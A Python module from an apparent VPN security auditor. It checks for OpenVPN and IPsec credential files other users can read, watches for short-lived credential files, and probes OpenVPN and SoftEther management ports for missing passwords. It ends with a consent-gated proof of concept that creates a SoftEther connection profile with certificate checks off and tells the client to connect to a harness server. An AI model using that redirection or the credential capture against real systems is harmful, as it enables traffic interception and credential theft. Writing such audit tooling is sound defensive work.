"""Local-attacker checks: credential files other users can read, short-lived
credential files, and management interfaces that answer without a password.

Nothing here writes to scanned files.  Secrets are only ever kept in
redacted form (first and last two characters).

Readability mapping: on POSIX a file counts as readable by others when its
"other" read bit is set, or its group read bit is set and the group is not
the owner's private group.  Other platforms fall back to the same bits as
reported by ``os.stat``; ACL-only grants are not seen.
"""

from __future__ import annotations

import enum
import glob
import logging
import os
import re
import socket
import stat
import threading
import time
from dataclasses import dataclass
from typing import Iterable, Optional

from .core import Direction, Finding, ProbeError, Transcript, Verdict, VulnClass
from .net import Background, close_quietly
from .softether import SoftEtherTlsProbe

log = logging.getLogger(__name__)

OPENVPN_MGMT_GREETING = ">INFO:OpenVPN Management Interface"
OPENVPN_PASSWORD_PROMPT = "ENTER PASSWORD:"
SOFTETHER_MGMT_PORT = 5555
SOFTETHER_GREETING = "SEVPN-MGMT"


class SecretKind(str, enum.Enum):
    InlineUserPass = "InlineUserPass"
    UserPassFileReference = "UserPassFileReference"
    PskLiteral = "PskLiteral"


@dataclass(frozen=True)
class SecretMatch:
    kind: SecretKind
    excerpt: str  # redacted
    line: int


@dataclass(frozen=True)
class FileExposure:
    path: str
    readable_by_others: bool
    secrets: tuple[SecretMatch, ...] = ()

    @property
    def exposed(self) -> bool:
        return self.readable_by_others and bool(self.secrets)

    def refs(self) -> list[str]:
        return [f"{self.path}:{s.line}" for s in self.secrets]


def redact(secret: str) -> str:
    if len(secret) <= 4:
        return "*" * len(secret)
    return secret[:2] + "*" * (len(secret) - 4) + secret[-2:]


def _private_group(st: os.stat_result) -> bool:
    try:
        import grp
        import pwd
        g = grp.getgrgid(st.st_gid)
        owner = pwd.getpwuid(st.st_uid).pw_name
    except (ImportError, KeyError):
        return False
    members = set(g.gr_mem)
    return g.gr_name == owner and members <= {owner}


def readable_by_others(path: str) -> bool:
    """Whether a principal other than the owner can read ``path``."""
    st = os.stat(path)
    if st.st_mode & stat.S_IROTH:
        return True
    return bool(st.st_mode & stat.S_IRGRP) and not _private_group(st)


# ---------------------------------------------------------------- file heuristics

_OVPN_HINT = re.compile(r"^\s*(client|remote\s+\S+|dev\s+tun|dev\s+tap|auth-user-pass)\b", re.M)
_PSK_LINE = re.compile(r':\s*PSK\s+"([^"]*)"|:\s*PSK\s+(\S+)', re.I)


def looks_like_openvpn_profile(path: str, text: str) -> bool:
    if path.lower().endswith(".ovpn"):
        return True
    return path.lower().endswith(".conf") and bool(_OVPN_HINT.search(text))


def _inline_userpass(text: str) -> list[SecretMatch]:
    out = []
    lines = text.splitlines()
    inside = False
    block: list[tuple[int, str]] = []
    for no, line in enumerate(lines, 1):
        s = line.strip()
        if s == "<auth-user-pass>":
            inside, block = True, []
        elif s == "</auth-user-pass>" and inside:
            inside = False
            values = [(n, v) for n, v in block if v]
            for n, v in values:
                out.append(SecretMatch(SecretKind.InlineUserPass, redact(v), n))
        elif inside:
            block.append((no, s))
    return out


def _userpass_file_secret(path: str) -> list[str]:
    """Username and password lines of an ``auth-user-pass`` file."""
    try:
        with open(path, encoding="utf-8", errors="replace") as fh:
            lines = [ln.strip() for ln in fh.read().splitlines()]
    except OSError:
        return []
    values = [ln for ln in lines if ln]
    return values[:2] if len(values) >= 2 else []


def _referenced_files(profile: str, text: str) -> list[tuple[int, str]]:
    out = []
    for no, line in enumerate(text.splitlines(), 1):
        parts = line.strip().split(None, 1)
        if len(parts) == 2 and parts[0] == "auth-user-pass" and not parts[1].startswith("#"):
            ref = parts[1].strip().strip('"')
            out.append((no, ref if os.path.isabs(ref) else os.path.join(os.path.dirname(profile), ref)))
    return out


def _psk_literals(text: str) -> list[SecretMatch]:
    out = []
    for no, line in enumerate(text.splitlines(), 1):
        if line.lstrip().startswith("#"):
            continue
        m = _PSK_LINE.search(line)
        if m:
            out.append(SecretMatch(SecretKind.PskLiteral, redact(m.group(1) or m.group(2) or ""), no))
    return out


def _read(path: str) -> Optional[str]:
    try:
        with open(path, "rb") as fh:
            return fh.read(1 << 20).decode("utf-8", errors="replace")
    except OSError:
        return None


def examine_file(path: str, dialects: Optional[set[str]] = None) -> list[FileExposure]:
    """Exposures for one file (a profile may also expose a referenced file)."""
    dialects = dialects or {"openvpn", "ipsec-secrets"}
    text = _read(path)
    if text is None:
        return []
    out = []
    if "openvpn" in dialects and looks_like_openvpn_profile(path, text):
        inline = _inline_userpass(text)
        out.append(FileExposure(path, readable_by_others(path), tuple(inline)))
        for no, ref in _referenced_files(path, text):
            values = _userpass_file_secret(ref)
            if not values:
                continue
            secrets = tuple(SecretMatch(SecretKind.UserPassFileReference, redact(v), i + 1)
                            for i, v in enumerate(values))
            out.append(FileExposure(ref, readable_by_others(ref), secrets))
    elif "ipsec-secrets" in dialects and os.path.basename(path).endswith(".secrets"):
        out.append(FileExposure(path, readable_by_others(path), tuple(_psk_literals(text))))
    return [e for e in out if e.secrets]


def scan_credential_files(roots: Iterable[str], dialects: Optional[set[str]] = None,
                          notes: Optional[list[str]] = None) -> list[FileExposure]:
    """Walks ``roots``; unreadable roots are skipped with a note."""
    notes = notes if notes is not None else []
    seen: dict[str, FileExposure] = {}
    for root in roots:
        if not os.access(root, os.R_OK):
            notes.append(f"skipped unreadable root {root}")
            continue
        paths = [root] if os.path.isfile(root) else (
            os.path.join(d, f) for d, _, files in os.walk(root, onerror=lambda e: notes.append(str(e)))
            for f in sorted(files))
        for p in paths:
            for exp in examine_file(p, dialects):
                seen.setdefault(exp.path, exp)
    return sorted(seen.values(), key=lambda e: e.path)


def exposure_finding(exposures: Iterable[FileExposure], target: str = "local-host",
                     transcript: Optional[Transcript] = None) -> Finding:
    """One finding per target; each exposed secret contributes evidence."""
    exposures = list(exposures)
    tr = transcript if transcript is not None else Transcript(prefix="local")
    exposed = [e for e in exposures if e.exposed]
    for e in exposures:
        who = "readable by other users" if e.readable_by_others else "owner-only"
        for s in e.secrets:
            tr.record(Direction.LocalObservation, "file", f"{e.path}:{s.line} {s.kind.value} {s.excerpt} ({who})")
    if exposed:
        refs = [r for e in exposed for r in e.refs()]
        kinds = sorted({s.kind.value for e in exposed for s in e.secrets})
        return Finding(VulnClass.OpenVpnCredentialLeakage, Verdict.vulnerable(
            refs, f"{len(refs)} stored secret(s) readable by other local users ({', '.join(kinds)})"), target)
    if exposures:
        return Finding(VulnClass.OpenVpnCredentialLeakage,
                       Verdict.secure("stored credentials are readable by their owner only",
                                      [r for e in exposures for r in e.refs()]), target)
    return Finding(VulnClass.OpenVpnCredentialLeakage, Verdict.secure("no stored credentials found"), target)


# ---------------------------------------------------------------- transient files


def _transient_secrets(path: str, text: str) -> list[SecretMatch]:
    inline = _inline_userpass(text)
    if inline:
        return inline
    if "<" in text or looks_like_openvpn_profile(path, text):
        return []
    lines = [(i + 1, ln.strip()) for i, ln in enumerate(text.splitlines()) if ln.strip()]
    # the shape of an auth-user-pass file: a bare user name line, then a password line
    if len(lines) == 2 and " " not in lines[0][1]:
        return [SecretMatch(SecretKind.UserPassFileReference, redact(v), n) for n, v in lines]
    return []


def watch_transient_credentials(pattern: str, window: float, poll: float = 0.5,
                                stop: Optional[threading.Event] = None) -> list[FileExposure]:
    """Polls ``pattern`` (a glob) for ``window`` seconds.  Files that held
    credentials at any poll are reported even if gone afterwards."""
    if window <= poll:
        raise ValueError("window must be longer than the poll interval")
    found: dict[tuple[str, tuple], FileExposure] = {}
    deadline = time.monotonic() + window
    while True:
        for path in glob.glob(pattern):
            text = _read(path)
            if not text:
                continue
            secrets = tuple(_transient_secrets(path, text))
            if not secrets:
                continue
            try:
                others = readable_by_others(path)
            except OSError:
                others = False
            key = (path, secrets)
            if key not in found:
                found[key] = FileExposure(path, others, secrets)
        now = time.monotonic()
        if now >= deadline or (stop is not None and stop.is_set()):
            break
        time.sleep(min(poll, max(deadline - now, 0)))
    return list(found.values())


def transient_finding(exposures: list[FileExposure], target: str = "local-host",
                      transcript: Optional[Transcript] = None) -> Finding:
    tr = transcript if transcript is not None else Transcript(prefix="local")
    if not exposures:
        return Finding(VulnClass.OpenVpnCredentialLeakage, Verdict.secure("no transient credential files seen"),
                       target)
    refs = []
    for e in exposures:
        for s in e.secrets:
            refs.append(tr.record(Direction.LocalObservation, "file",
                                  f"transient {e.path}:{s.line} {s.kind.value} {s.excerpt}"))
    return Finding(VulnClass.OpenVpnCredentialLeakage, Verdict.vulnerable(
        refs, f"credentials captured from {len({e.path for e in exposures})} short-lived file(s)"), target)


# ---------------------------------------------------------------- management interfaces


class MgmtDialect(str, enum.Enum):
    OpenVpnMgmt = "OpenVpnMgmt"
    SoftEtherMgmt = "SoftEtherMgmt"


@dataclass
class ManagementEndpoint:
    port: int
    dialect: MgmtDialect
    host: str = "127.0.0.1"
    auth_required: Optional[bool] = None  # filled in by probing

    def __post_init__(self):
        self.dialect = MgmtDialect(self.dialect)


class ConsentRequired(ProbeError):
    pass


class _Line:
    def __init__(self, sock: socket.socket, tr: Transcript):
        self.sock, self.tr = sock, tr
        self.buf = b""

    def send(self, line: str) -> str:
        self.sock.sendall(line.encode() + b"\n")
        return self.tr.record(Direction.ProbeToClient, "mgmt", f"> {line}")

    def read(self) -> Optional[str]:
        while b"\n" not in self.buf:
            try:
                chunk = self.sock.recv(4096)
            except socket.timeout:
                chunk = None
            if not chunk:
                if self.buf:
                    line, self.buf = self.buf, b""
                    return line.decode("utf-8", "replace").rstrip("\r")
                return None
            self.buf += chunk
        line, _, self.buf = self.buf.partition(b"\n")
        return line.decode("utf-8", "replace").rstrip("\r")

    def read_prompt(self, prompt: str) -> Optional[str]:
        """Reads a line, accepting a bare prompt that is not newline-terminated."""
        deadline = time.monotonic() + (self.sock.gettimeout() or 5.0)
        while b"\n" not in self.buf and not self.buf.decode("latin-1").startswith(prompt):
            if time.monotonic() > deadline:
                break
            try:
                chunk = self.sock.recv(4096)
            except socket.timeout:
                break
            if not chunk:
                break
            self.buf += chunk
        return self.read()


def _connect(ep: ManagementEndpoint, timeout: float):
    try:
        return socket.create_connection((ep.host, ep.port), timeout=timeout)
    except OSError:
        return None


def audit_management_interface(endpoint: ManagementEndpoint, password: Optional[str] = None,
                               target: str = "local-host", timeout: float = 5.0) -> tuple[Finding, Transcript]:
    """Read-only: greeting, authentication prompt detection, one status query."""
    tr = Transcript(prefix="mgmt")
    vc = (VulnClass.OpenVpnCredentialLeakage if endpoint.dialect is MgmtDialect.OpenVpnMgmt
          else VulnClass.SoftEtherWrongVpnServer)
    sock = _connect(endpoint, timeout)
    if sock is None:
        tr.record(Direction.LocalObservation, "mgmt", f"{endpoint.host}:{endpoint.port} refused the connection")
        return Finding(vc, Verdict.inconclusive("NotRunning: management port closed"), target), tr
    try:
        io = _Line(sock, tr)
        if endpoint.dialect is MgmtDialect.OpenVpnMgmt:
            return _audit_openvpn(io, endpoint, password, target), tr
        return _audit_softether(io, endpoint, password, target), tr
    except OSError as exc:
        tr.record(Direction.LocalObservation, "mgmt", f"connection error: {exc}")
        return Finding(vc, Verdict.inconclusive(f"connection error: {exc}"), target), tr
    finally:
        close_quietly(sock)


def _audit_openvpn(io: _Line, ep: ManagementEndpoint, password: Optional[str], target: str) -> Finding:
    vc = VulnClass.OpenVpnCredentialLeakage
    greeting = io.read_prompt(OPENVPN_PASSWORD_PROMPT)
    if greeting is None:
        return Finding(vc, Verdict.inconclusive("no greeting from management interface"), target)
    g_ref = io.tr.record(Direction.ClientToProbe, "mgmt", f"< {greeting}")
    if greeting.startswith(OPENVPN_PASSWORD_PROMPT):
        ep.auth_required = True
        if password is None:
            return Finding(vc, Verdict.secure("management interface asks for a password", [g_ref]), target)
        io.send(password)
        reply = io.read() or ""
        io.tr.record(Direction.ClientToProbe, "mgmt", f"< {reply}")
        if not reply.startswith("SUCCESS"):
            return Finding(vc, Verdict.secure("management password rejected", [g_ref]), target)
        greeting = io.read() or ""
    elif not greeting.startswith(OPENVPN_MGMT_GREETING):
        return Finding(vc, Verdict.inconclusive(f"unexpected greeting {greeting[:60]!r}", [g_ref]), target)
    else:
        ep.auth_required = False
    q_ref = io.send("state")
    lines = []
    while True:
        line = io.read()
        if line is None:
            break
        lines.append(line)
        if line == "END" or line.startswith("ERROR"):
            break
    r_ref = io.tr.record(Direction.ClientToProbe, "mgmt", f"< {len(lines)} line(s): {' | '.join(lines)[:120]}")
    if lines and lines[-1] == "END":
        if ep.auth_required:
            return Finding(vc, Verdict.secure("status query answered only after the password", [g_ref]), target)
        return Finding(vc, Verdict.weak([g_ref, q_ref, r_ref],
                                        "management interface answers status queries without a password; "
                                        "no known exploit"), target)
    return Finding(vc, Verdict.inconclusive("status query not answered", [g_ref, r_ref]), target)


def _softether_hello(io: _Line) -> tuple[Optional[str], bool, list[str]]:
    greeting = io.read()
    if greeting is None or not greeting.startswith(SOFTETHER_GREETING):
        return greeting, False, []
    refs = [io.tr.record(Direction.ClientToProbe, "mgmt", f"< {greeting}")]
    status = io.read() or ""
    refs.append(io.tr.record(Direction.ClientToProbe, "mgmt", f"< {status}"))
    return greeting, status.startswith("AUTH-REQUIRED"), refs


def _softether_command(io: _Line, line: str) -> tuple[bool, str, str]:
    io.send(line)
    reply = io.read() or ""
    ref = io.tr.record(Direction.ClientToProbe, "mgmt", f"< {reply}")
    return reply.startswith("OK"), reply, ref


def _audit_softether(io: _Line, ep: ManagementEndpoint, password: Optional[str], target: str) -> Finding:
    vc = VulnClass.SoftEtherWrongVpnServer
    greeting, auth_required, refs = _softether_hello(io)
    if not refs:
        return Finding(vc, Verdict.inconclusive(f"unexpected greeting {greeting!r}"), target)
    ep.auth_required = auth_required
    if auth_required and password is None:
        return Finding(vc, Verdict.secure("management interface demands authentication", refs), target)
    if auth_required:
        ok, _, ref = _softether_command(io, f"Login {password}")
        if not ok:
            return Finding(vc, Verdict.secure("management login rejected", refs + [ref]), target)
    ok, reply, ref = _softether_command(io, "AccountList")
    if ok and not auth_required:
        return Finding(vc, Verdict.vulnerable(refs + [ref], "administrative command accepted without "
                                                             "authentication"), target)
    if ok:
        return Finding(vc, Verdict.secure("administrative commands need the management password", refs), target)
    return Finding(vc, Verdict.secure(f"administrative command refused: {reply}", refs + [ref]), target)


@dataclass
class MaliciousProfile:
    name: str
    server_host: str
    server_port: int
    hub: str = "VPN"


def demo_wrong_server(endpoint: ManagementEndpoint, profile: Optional[MaliciousProfile] = None, *,
                      consent: bool = False, target: str = "local-host", timeout: float = 5.0,
                      material=None) -> tuple[Finding, Transcript]:
    """Creates a connection profile pointing at a harness-controlled server
    and tells the client to connect.  Requires explicit consent."""
    if not consent:
        raise ConsentRequired("demo_wrong_server changes the client's configuration; pass --exploit-demo")
    if endpoint.dialect is not MgmtDialect.SoftEtherMgmt:
        raise ProbeError("the wrong-server demonstration needs a SoftEther management endpoint")
    vc = VulnClass.SoftEtherWrongVpnServer
    tr = Transcript(prefix="demo")
    receiver = None
    if profile is None:
        receiver = SoftEtherTlsProbe(material, port=0, connect_timeout=timeout, phase_timeout=timeout).bind()
        host, port = receiver.ports["tcp"].rsplit(":", 1)
        profile = MaliciousProfile("vpnprobe-demo", host, int(port))
    bg = Background(receiver.serve).start() if receiver else None
    sock = _connect(endpoint, timeout)
    if sock is None:
        if receiver:
            close_quietly(receiver._listener)
        return Finding(vc, Verdict.inconclusive("NotRunning: management port closed"), target), tr
    refs: list[str] = []
    try:
        io = _Line(sock, tr)
        _, auth_required, hello = _softether_hello(io)
        refs += hello
        if auth_required or not hello:
            if receiver:
                close_quietly(receiver._listener)
            return Finding(vc, Verdict.secure("management interface demands authentication", hello), target), tr
        steps = [f"AccountCreate {profile.name} server={profile.server_host}:{profile.server_port} "
                 f"hub={profile.hub} check_server_cert=false", f"AccountConnect {profile.name}"]
        for cmd in steps:
            ok, reply, ref = _softether_command(io, cmd)
            refs.append(ref)
            if not ok:
                if receiver:
                    close_quietly(receiver._listener)
                level = Verdict.weak(refs, f"management interface is open but refused {cmd.split()[0]}: {reply}")
                return Finding(vc, level, target), tr
    finally:
        close_quietly(sock)
    if bg is None:
        return Finding(vc, Verdict.vulnerable(refs, f"client told to connect to {profile.server_host}:"
                                                    f"{profile.server_port}"), target), tr
    try:
        got, rtr = bg.result(timeout + 2)
    except TimeoutError:
        got, rtr = None, None
    if rtr is not None:
        copied = {rtr.ref(i): tr.record(ev.direction, ev.layer, "[harness server] " + ev.summary,
                                        plaintext=ev.plaintext)
                  for i, ev in enumerate(rtr.events)}
        refs += [copied[r] for r in got.verdict.evidence if r in copied]
    if got is not None and got.verdict.level.value == "Vulnerable":
        return Finding(vc, Verdict.vulnerable(refs, "the victim's client connected to the harness-controlled "
                                                    "server through a profile created without authentication"),
                       target), tr
    return Finding(vc, Verdict.weak(refs, "profile created and connect accepted, but no connection arrived"),
                   target), tr
